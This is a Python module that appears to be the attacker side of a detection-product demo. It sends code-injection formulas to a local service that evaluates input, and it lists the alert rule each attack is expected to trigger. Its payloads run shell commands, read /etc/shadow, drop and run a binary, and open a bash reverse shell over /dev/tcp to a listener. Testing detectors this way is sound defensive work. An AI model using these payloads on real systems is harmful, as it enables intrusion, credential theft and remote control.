"""What the intruder does. He knows one thing only: the published HTTP port, and that `/public/price` evaluates what it is asked."""

from __future__ import annotations

import httpx

from shipwall.demo.scenario import Scenario

RULES = {
    "shell": "Shell started by a service",
    "shadow": "Sensitive file read",
    "dropped-file": "Program not in the image executed",
    "reverse-shell": "Standard stream bound to a network connection",
}
"""Attack → the shipped rule that must speak."""

WORDS = {
    "shell": "inject a shell under the API",
    "shadow": "read /etc/shadow",
    "dropped-file": "write an executable and run it",
    "reverse-shell": "open a shell to a listener outside",
}


def render_attack(attack: str, scenario: Scenario, gateway: str) -> str:
    """The formula that carries out `attack` in the service."""
    dropped = f"{scenario.plugins}/{scenario.dropped}"
    formulas = {
        "shell": "__import__('os').popen('id; uname -a').read()",
        "shadow": "open('/etc/shadow').read()",
        "dropped-file": f"__import__('os').system('cp /usr/bin/id {dropped}; chmod 755 {dropped}; "
        f"{dropped} > /tmp/{scenario.dropped}.ran')",
        "reverse-shell": "__import__('subprocess').Popen(['/bin/bash', '-c', "
        f"'exec bash -i >& /dev/tcp/{gateway}/{scenario.listener_port} 0>&1'])",
    }
    return formulas[attack]


def send(port: int, path: str, formula: str = "", timeout_s: float = 5.0) -> tuple[int, str]:
    """Status and text of the service's answer; status 0 and the reason when there is none (a frozen service does not answer)."""
    params = {"formula": formula} if formula else {}
    try:
        with httpx.Client(timeout=timeout_s, trust_env=False) as client:
            response = client.get(f"http://127.0.0.1:{port}{path}", params=params)
            return response.status_code, response.text[:2000]
    except httpx.HTTPError as error:
        return 0, type(error).__name__
